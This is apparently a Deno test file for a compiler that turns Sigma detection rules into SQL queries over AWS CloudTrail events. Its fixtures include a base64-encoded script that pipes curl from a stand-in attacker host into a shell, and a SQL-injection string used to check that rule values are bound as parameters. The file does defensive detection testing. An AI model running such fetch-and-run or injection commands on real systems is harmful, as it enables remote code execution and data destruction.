import assert from "node:assert/strict";
import { withTempDir } from "../tests/_helpers.ts";
import { compileSigma } from "./compile_sigma.ts";
import { detectionRule, event, lakeOf, matchIds, openForSigma } from "./_test_lake.ts";
import type { LakeDb } from "../queries/open_lake.ts";
import type { SigmaRule } from "./parse_sigma.ts";

const policy = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Action: "s3:GetObject", Resource: "arn:aws:s3:::b/*" }],
});

/** Each group of events shares an eventID prefix; the rules are scoped to one group. */
const RECORDS = [
  event("case-1", { eventName: "ListRoles" }),
  event("case-2", { eventName: "listroles" }),
  event("case-3", { eventName: "ListRolesX" }),
  event("wild-1", { userAgent: "agent*star?q" }),
  event("wild-2", { userAgent: "agentXstarYq" }),
  event("wild-3", { userAgent: "C:\\Windows\\System32\\cmd.exe" }),
  event("wild-4", { userAgent: "agent" }),
  event("json-1", {
    requestParameters: {
      policyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
      names: ["alpha", "Beta"],
      tags: [{ key: "Team", value: "red" }, { key: "env", value: "prod" }],
      enable: false,
      maxResults: 50,
      nested: { deep: { x: "y" } },
      policyDocument: policy,
    },
    resources: [{ ARN: "arn:aws:s3:::bucket-a" }, { ARN: "arn:aws:s3:::bucket-b" }],
  }),
  event("json-2", {
    requestParameters: {
      policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess",
      names: ["gamma"],
      maxResults: "7",
    },
  }),
  event("json-3", { requestParameters: null }),
  event("null-1", { errorCode: "AccessDenied" }),
  event("null-2", {}),
  event("null-3", { errorCode: "" }),
  event("ip-1", { sourceIPAddress: "10.1.2.3" }),
  event("ip-2", { sourceIPAddress: "11.0.0.1" }),
  event("ip-3", { sourceIPAddress: "2001:db8::1" }),
  event("ip-4", { sourceIPAddress: "2001:db9::1" }),
  event("ip-5", { sourceIPAddress: "AWS Internal" }),
  event("b64-1", {
    requestParameters: { userData: btoa("#!/bin/bash\ncurl http://evil.example/x | sh") },
  }),
  event("b64-2", { requestParameters: { userData: btoa("#!/bin/bash\necho hello") } }),
  event("b64-3", { requestParameters: { userData: btoa("http://evil.example") } }),
  event("dash-1", { requestParameters: { command: "tool -exec now" } }),
  event("dash-2", { requestParameters: { command: "tool /exec now" } }),
  event("dash-3", { requestParameters: { command: "tool \u2013exec now" } }),
  event("dash-4", { requestParameters: { command: "tool+exec now" } }),
  event("time-1", { eventTime: "2026-11-05T03:15:00Z" }),
  event("time-2", { eventTime: "2026-11-05T14:15:00Z" }),
  event("ref-1", {
    userIdentity: { type: "IAMUser", userName: "bob", arn: "arn:aws:iam::111122223333:user/bob" },
    requestParameters: { userName: "bob" },
  }),
  event("ref-2", {
    userIdentity: { type: "IAMUser", userName: "bob", arn: "arn:aws:iam::111122223333:user/bob" },
    requestParameters: { userName: "alice" },
  }),
  event("re-1", { eventName: "AssumeRoleWithWebIdentity" }),
  event("re-2", { eventName: "assumerolewithwebidentity" }),
  event("re-3", { eventName: "AssumeRole" }),
  event("st-1", {}),
  event("st-2", {
    userIdentity: {
      type: "AssumedRole",
      arn: "arn:aws:sts::111122223333:assumed-role/other-role/s",
      sessionContext: { sessionIssuer: { type: "Role", userName: "other-role" } },
    },
    readOnly: false,
  }),
];

async function withLake(fn: (db: LakeDb) => Promise<void>) {
  await withTempDir(async (dir) => {
    const db = await openForSigma(await lakeOf(dir, RECORDS));
    try {
      await fn(db);
    } finally {
      db.close();
    }
  });
}

/** The eventIDs of group `scope` that `sel` (a flow mapping, or YAML lines) matches. */
function inScope(db: LakeDb, scope: string, sel: string, condition = "sel") {
  return matchIds(
    db,
    `  scope: {eventID|startswith: "${scope}-"}\n  sel: ${sel}\n  condition: scope and (${condition})\n`,
  );
}

Deno.test("compileSigma() matches values and condition forms as Sigma does", async (t) => {
  await withLake(async (db) => {
    await t.step("strings are case-insensitive; cased is not", async () => {
      assert.deepEqual(await inScope(db, "case", "{eventName: LISTROLES}"), ["case-1", "case-2"]);
      assert.deepEqual(await inScope(db, "case", "{eventName|cased: ListRoles}"), ["case-1"]);
    });
    await t.step("value lists are OR, all makes them AND", async () => {
      assert.deepEqual(await inScope(db, "case", "{eventName: [ListRoles, ListRolesX]}"), [
        "case-1",
        "case-2",
        "case-3",
      ]);
      assert.deepEqual(await inScope(db, "case", "{eventName|contains|all: [list, x]}"), [
        "case-3",
      ]);
    });
    await t.step("lists of maps are OR, keys of a map AND", async () => {
      assert.deepEqual(
        await inScope(db, "case", "[{eventName|cased: listroles}, {eventName|endswith: X}]"),
        ["case-2", "case-3"],
      );
      assert.deepEqual(
        await inScope(db, "case", "{eventName|startswith: list, eventName|endswith: x}"),
        ["case-3"],
      );
    });
    await t.step("contains, startswith, endswith", async () => {
      assert.deepEqual(await inScope(db, "case", "{eventName|contains: STROL}"), [
        "case-1",
        "case-2",
        "case-3",
      ]);
      assert.deepEqual(await inScope(db, "case", "{eventName|endswith: roles}"), [
        "case-1",
        "case-2",
      ]);
      assert.deepEqual(await inScope(db, "wild", "{userAgent|startswith: agent}"), [
        "wild-1",
        "wild-2",
        "wild-4",
      ]);
    });
    await t.step("wildcards * and ?, and their escapes", async () => {
      assert.deepEqual(await inScope(db, "wild", "{userAgent: 'agent*q'}"), ["wild-1", "wild-2"]);
      assert.deepEqual(await inScope(db, "wild", "{userAgent: 'agent?star?q'}"), [
        "wild-1",
        "wild-2",
      ]);
      assert.deepEqual(await inScope(db, "wild", "{userAgent: 'agent\\*star\\?q'}"), ["wild-1"]);
      assert.deepEqual(await inScope(db, "wild", "{userAgent|contains: '\\*'}"), ["wild-1"]);
      // A backslash before another character is literal; \\ is one backslash.
      assert.deepEqual(await inScope(db, "wild", "{userAgent: 'C:\\Windows\\System32\\cmd.exe'}"), [
        "wild-3",
      ]);
      assert.deepEqual(await inScope(db, "wild", "{userAgent|endswith: '\\\\cmd.exe'}"), [
        "wild-3",
      ]);
      // LIKE's own metacharacters are literal.
      assert.deepEqual(await inScope(db, "wild", "{userAgent|contains: '%'}"), []);
      assert.deepEqual(await inScope(db, "wild", "{userAgent: 'agent_star_q'}"), []);
    });
    await t.step("null, exists, and not over missing fields", async () => {
      assert.deepEqual(await inScope(db, "null", "{errorCode: null}"), ["null-2"]);
      assert.deepEqual(await inScope(db, "null", "{errorCode: ''}"), ["null-3"]);
      assert.deepEqual(await inScope(db, "null", "{errorCode|exists: true}"), ["null-1", "null-3"]);
      assert.deepEqual(await inScope(db, "null", "{errorCode|exists: false}"), ["null-2"]);
      // "not" of a test on a missing field is true (two-valued logic, not SQL's NULL).
      assert.deepEqual(await inScope(db, "null", "{errorCode: AccessDenied}", "not sel"), [
        "null-2",
        "null-3",
      ]);
      assert.deepEqual(await inScope(db, "null", "{errorCode: [null, AccessDenied]}"), [
        "null-1",
        "null-2",
      ]);
    });
    await t.step(
      "JSON text: paths, lists inside JSON, nested objects, the whole object",
      async () => {
        assert.deepEqual(
          await inScope(db, "json", "{requestParameters.policyArn|endswith: /administratoraccess}"),
          ["json-1"],
        );
        assert.deepEqual(await inScope(db, "json", "{requestParameters.names: beta}"), ["json-1"]);
        assert.deepEqual(await inScope(db, "json", "{requestParameters.names: [gamma, delta]}"), [
          "json-2",
        ]);
        assert.deepEqual(await inScope(db, "json", "{requestParameters.tags.key: team}"), [
          "json-1",
        ]);
        assert.deepEqual(await inScope(db, "json", "{requestParameters.nested.deep.x: Y}"), [
          "json-1",
        ]);
        assert.deepEqual(await inScope(db, "json", "{requestParameters.enable: 'false'}"), [
          "json-1",
        ]);
        assert.deepEqual(await inScope(db, "json", "{requestParameters.enable: false}"), [
          "json-1",
        ]);
        assert.deepEqual(await inScope(db, "json", "{resources.ARN|endswith: bucket-b}"), [
          "json-1",
        ]);
        assert.deepEqual(await inScope(db, "json", "{requestParameters.missing: null}"), [
          "json-1",
          "json-2",
          "json-3",
        ]);
        assert.deepEqual(await inScope(db, "json", "{requestParameters: null}"), ["json-3"]);
        assert.deepEqual(
          await inScope(db, "json", "{requestParameters|contains: readonlyaccess}"),
          ["json-2"],
        );
        // The whole object also matches JSON embedded as a string (an IAM policyDocument).
        assert.deepEqual(
          await inScope(
            db,
            "json",
            `{requestParameters|contains|all: ['"s3:GetObject"', '"Allow"']}`,
          ),
          ["json-1"],
        );
      },
    );
    await t.step("numbers and lt/lte/gt/gte", async () => {
      assert.deepEqual(await inScope(db, "json", "{requestParameters.maxResults: 50}"), ["json-1"]);
      assert.deepEqual(await inScope(db, "json", "{requestParameters.maxResults|gt: 7}"), [
        "json-1",
      ]);
      assert.deepEqual(await inScope(db, "json", "{requestParameters.maxResults|gte: 7}"), [
        "json-1",
        "json-2",
      ]);
      assert.deepEqual(await inScope(db, "json", "{requestParameters.maxResults|lt: 50}"), [
        "json-2",
      ]);
      assert.deepEqual(await inScope(db, "json", "{requestParameters.maxResults|lte: 50}"), [
        "json-1",
        "json-2",
      ]);
    });
    await t.step("neq", async () => {
      assert.deepEqual(await inScope(db, "null", "{errorCode|neq: accessdenied}"), ["null-3"]);
      assert.deepEqual(await inScope(db, "json", "{requestParameters.maxResults|neq: 50}"), [
        "json-2",
      ]);
    });
    await t.step("re with its flags i, m, s (case-sensitive by default)", async () => {
      assert.deepEqual(await inScope(db, "re", "{eventName|re: '^Assume.*Identity$'}"), ["re-1"]);
      assert.deepEqual(await inScope(db, "re", "{eventName|re|i: '^assume.*identity$'}"), [
        "re-1",
        "re-2",
      ]);
      assert.deepEqual(await inScope(db, "re", "{eventName|re: 'Role$'}"), ["re-3"]);
      assert.deepEqual(
        await inScope(db, "b64", "{requestParameters.userData|base64offset|contains: 'curl'}"),
        [
          "b64-1",
        ],
      );
    });
    await t.step("cidr for IPv4 and IPv6", async () => {
      assert.deepEqual(await inScope(db, "ip", "{sourceIPAddress|cidr: 10.0.0.0/8}"), ["ip-1"]);
      assert.deepEqual(
        await inScope(db, "ip", "{sourceIPAddress|cidr: [10.0.0.0/8, 11.0.0.0/24]}"),
        ["ip-1", "ip-2"],
      );
      assert.deepEqual(await inScope(db, "ip", "{sourceIPAddress|cidr: '2001:db8::/32'}"), [
        "ip-3",
      ]);
      assert.deepEqual(await inScope(db, "ip", "{sourceIPAddress|cidr: '::/0'}"), ["ip-3", "ip-4"]);
      assert.deepEqual(await inScope(db, "ip", "{sourceIPAddress|cidr: 0.0.0.0/0}"), [
        "ip-1",
        "ip-2",
      ]);
    });
    await t.step("base64 and base64offset", async () => {
      const whole = btoa("http://evil.example");
      assert.deepEqual(await inScope(db, "b64", `{requestParameters.userData: '${whole}'}`), [
        "b64-3",
      ]);
      assert.deepEqual(
        await inScope(db, "b64", "{requestParameters.userData|base64: 'http://evil.example'}"),
        ["b64-3"],
      );
      assert.deepEqual(
        await inScope(
          db,
          "b64",
          "{requestParameters.userData|base64offset|contains: 'http://evil'}",
        ),
        ["b64-1", "b64-3"],
      );
    });
    await t.step("windash", async () => {
      assert.deepEqual(
        await inScope(db, "dash", "{requestParameters.command|windash|contains: ' -exec'}"),
        [
          "dash-1",
          "dash-2",
          "dash-3",
        ],
      );
      assert.deepEqual(
        await inScope(db, "dash", "{requestParameters.command|contains: ' -exec'}"),
        ["dash-1"],
      );
    });
    await t.step("time modifiers", async () => {
      assert.deepEqual(await inScope(db, "time", "{eventTime|hour: 3}"), ["time-1"]);
      assert.deepEqual(await inScope(db, "time", "{eventTime|hour|gte: 12}"), ["time-2"]);
      assert.deepEqual(await inScope(db, "time", "{eventTime|day: 5}"), ["time-1", "time-2"]);
    });
    await t.step("fieldref", async () => {
      assert.deepEqual(
        await inScope(db, "ref", "{userIdentity.userName|fieldref: requestParameters.userName}"),
        [
          "ref-1",
        ],
      );
      assert.deepEqual(
        await inScope(
          db,
          "ref",
          "{userIdentity.arn|fieldref|endswith: requestParameters.userName}",
        ),
        [
          "ref-1",
        ],
      );
      assert.deepEqual(
        await inScope(
          db,
          "ref",
          "{userIdentity.userName|fieldref|neq: requestParameters.userName}",
        ),
        [
          "ref-2",
        ],
      );
    });
    await t.step("struct paths and booleans", async () => {
      assert.deepEqual(
        await inScope(db, "st", "{userIdentity.sessionContext.sessionIssuer.userName: other-role}"),
        ["st-2"],
      );
      assert.deepEqual(await inScope(db, "st", "{readOnly: false}"), ["st-2"]);
      assert.deepEqual(await inScope(db, "st", "{readOnly: 'TRUE'}"), ["st-1"]);
    });
    const rule = (condition: string) =>
      matchIds(
        db,
        `  scope: {eventID|startswith: "case-"}\n  sel_a: {eventName|cased: ListRoles}\n` +
          `  sel_b: {eventName|cased: listroles}\n  filter_x: {eventName|endswith: x}\n` +
          `  condition: ${condition}\n`,
      );
    await t.step("and, or, not, parentheses and precedence", async () => {
      assert.deepEqual(await rule("scope and sel_a or sel_b"), ["case-1", "case-2"]);
      assert.deepEqual(await rule("scope and not (sel_a or sel_b)"), ["case-3"]);
      assert.deepEqual(await rule("scope and not sel_a and not filter_x"), ["case-2"]);
      const outside = await rule("NOT scope");
      assert.equal(outside.length, RECORDS.length - 3);
      assert.ok(!outside.some((id) => id.startsWith("case-")));
    });
    await t.step("1 of / all of with patterns and them", async () => {
      assert.deepEqual(await rule("scope and 1 of sel_*"), ["case-1", "case-2"]);
      assert.deepEqual(await rule("scope and all of sel_*"), []);
      assert.deepEqual(await rule("scope and not 1 of filter*"), ["case-1", "case-2"]);
      assert.deepEqual(await rule("1 of them and scope"), ["case-1", "case-2", "case-3"]);
      assert.deepEqual(await rule("all of them"), []);
    });
    await t.step("a list of conditions is OR", async () => {
      assert.deepEqual(await rule("\n    - scope and sel_a\n    - scope and sel_b"), [
        "case-1",
        "case-2",
      ]);
    });
  });
});

Deno.test("compileSigma() reports what it cannot run", async (t) => {
  const unsupported = (detection: string) => {
    const c = compileSigma(detectionRule(detection));
    assert.equal(c.kind, "unsupported");
    return c.kind === "unsupported" ? `${c.construct}: ${c.reason}` : "";
  };
  await t.step("unknown fields, with a hint for the case", () => {
    assert.match(
      unsupported("  s: {status: success}\n  condition: s"),
      /^field "status": "status" is not/,
    );
    assert.match(unsupported("  s: {EventName: x}\n  condition: s"), /did you mean "eventName"/);
    assert.match(
      unsupported("  s: {userIdentity.nope: x}\n  condition: s"),
      /not a member of userIdentity/,
    );
    assert.match(
      unsupported("  s: {eventName.x: x}\n  condition: s"),
      /VARCHAR value without members/,
    );
  });
  await t.step("modifiers and keywords", () => {
    assert.match(
      unsupported("  s: {eventName|expand: '%x%'}\n  condition: s"),
      /^modifier "expand"/,
    );
    assert.match(
      unsupported("  s: {eventName|nope: x}\n  condition: s"),
      /not a Sigma v2.1 modifier/,
    );
    assert.match(unsupported("  s: [foo, bar]\n  condition: s"), /keyword lists/);
    assert.match(
      unsupported("  s: {eventName|utf16le: x}\n  condition: s"),
      /must be followed by base64/,
    );
    assert.match(
      unsupported("  s: {eventName|base64: 'x*'}\n  condition: s"),
      /cannot encode a value with wildcards/,
    );
    assert.match(
      unsupported("  s: {sourceIPAddress|cidr: 10.0.0.0/33}\n  condition: s"),
      /not an IPv4 or IPv6/,
    );
  });
  await t.step("conditions", () => {
    assert.match(
      unsupported("  s: {eventName: x}\n  condition: s | count() > 5"),
      /Sigma v1 aggregations/,
    );
    assert.match(
      unsupported("  s: {eventName: x}\n  condition: t"),
      /"t" is not a search identifier/,
    );
    assert.match(
      unsupported("  s: {eventName: x}\n  condition: 1 of f*"),
      /matches no search identifier/,
    );
    assert.match(unsupported("  s: {eventName: x}\n  condition: s and"), /ends too early/);
  });
  await t.step("logsource", () => {
    const rule = detectionRule("  s: {eventName: x}\n  condition: s");
    const c = compileSigma({ ...rule, logsource: { product: "windows" } } as SigmaRule);
    assert.equal(c.kind, "unsupported");
    if (c.kind === "unsupported") assert.match(c.reason, /AWS CloudTrail only/);
  });
});

Deno.test("compileSigma() binds every rule value", () => {
  const evil = "x'); DROP TABLE events; --";
  const c = compileSigma(
    detectionRule(
      `  s:\n    eventName|contains: "${evil}"\n    requestParameters.a'b: "${evil}"\n` +
        `    sourceIPAddress|re: "${evil}"\n  condition: s\n`,
    ),
  );
  assert.equal(c.kind, "compiled");
  if (c.kind !== "compiled") return;
  assert.ok(!c.sql.includes("DROP TABLE"));
  assert.ok(!c.sql.includes("a'b"));
  assert.ok(c.params.some((p) => typeof p === "string" && p.includes("DROP TABLE")));
});
